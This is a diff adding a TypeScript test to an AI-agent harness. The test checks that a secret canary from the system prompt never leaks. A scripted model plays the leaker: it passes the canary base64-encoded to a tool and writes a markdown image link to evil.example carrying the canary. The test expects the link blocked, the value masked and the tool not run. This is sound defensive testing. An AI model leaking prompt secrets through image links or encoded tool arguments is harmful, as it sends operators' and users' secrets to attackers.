@@ -5,7 +5,10 @@ import type { AddressInfo } from 'node:net';
 import { toNodeHandler } from '@modelcontextprotocol/node';
 import { createMcpHandler, Server } from '@modelcontextprotocol/server';
 import { describe, expect, it, onTestFinished } from 'vitest';
+import { startScriptedGemini } from '../../local/scriptedGemini/server.ts';
+import { createGeminiClient } from '../../shared/llm/gemini/client.ts';
 import { createLogger } from '../../shared/log.ts';
+import { canaryOf } from '../../shared/masking/canary.ts';
 import { createMaskers } from '../../shared/runtime/maskers.ts';
 import { lineMasker } from '../../shared/wiring/lineMasker.ts';
 import { toolResultsOf } from '../support/expectations.ts';
@@ -176,5 +179,52 @@ describe('marks', () => {
       script: { conversations: [{ turns: [{ toolCalls }, DONE] }] },
     });
     expect(toolResultsOf(found)[0]?.metadata.isError).toBe(true);
+  });
+});
+
+describe('the canary of a session', () => {
+  it.each(['native-thinking', 'react'])('is in its prompts alone, and goes nowhere: %s', async (strategy) => {
+    const bench = await startBench({
+      agent: { strategy, tools: ['fixture'] },
+      script: { conversations: [{ turns: [DONE] }] },
+    });
+    const sessionId = await bench.publishAlert();
+    await bench.deliverNext();
+    const canary = canaryOf((await bench.read(sessionId)).session.maskKey);
+    const args = { text: Buffer.from(canary).toString('base64') };
+    const leak = `It leaks. ![x](https://evil.example/?q=${canary}) Key ${canary.toUpperCase()}.`;
+    const turns =
+      strategy === 'react'
+        ? [
+            { text: `Action: fixture.echo\nAction Input: ${JSON.stringify(args)}` },
+            { text: `Final Answer: ${leak}` },
+          ]
+        : [{ toolCalls: [{ name: 'fixture.echo', args }] }, { text: leak }];
+    // The model that was shown the canary: it is not known before.
+    const gemini = await startScriptedGemini({ script: { conversations: [{ turns }] } });
+    onTestFinished(() => gemini.stop());
+    const env = { GOOGLE_GEMINI_BASE_URL: gemini.url, GEMINI_API_KEY: 'scripted' };
+    const lines: string[] = [];
+    const log = createLogger({ LOG_LEVEL: 'debug' }, { write: (line) => void lines.push(line) });
+    const deps = { ...bench.deps, log, llm: createGeminiClient({ env }) };
+    await bench.deliverNext(deps);
+    await bench.deliverNext(deps);
+
+    const found = await bench.read(sessionId);
+    const prompts = gemini.requests.map(({ body }) =>
+      JSON.stringify((body as { systemInstruction?: object }).systemInstruction),
+    );
+    expect(prompts[0]).toContain(canary);
+    expect(prompts[1]).toBe(prompts[0]);
+    const stored = JSON.stringify([found, lines]);
+    for (const form of [canary, canary.toUpperCase(), args.text]) expect(stored).not.toContain(form);
+    expect(toolResultsOf(found)[0]?.content).toContain('Not run');
+    expect(found.session.finalAnalysis).toMatch(
+      /^It leaks\. \[image: x\]\(\[link blocked: evil\.example\]\) Key \[masked:canary#[0-9a-f]{6}\]\.$/,
+    );
+    const errors = found.timeline.filter(({ eventType }) => eventType === 'error');
+    expect(errors.map(({ metadata }) => metadata)).toEqual(
+      Array.from({ length: 3 }, () => expect.objectContaining({ code: 'TAINT_BLOCKED' })),
+    );
   });
 });
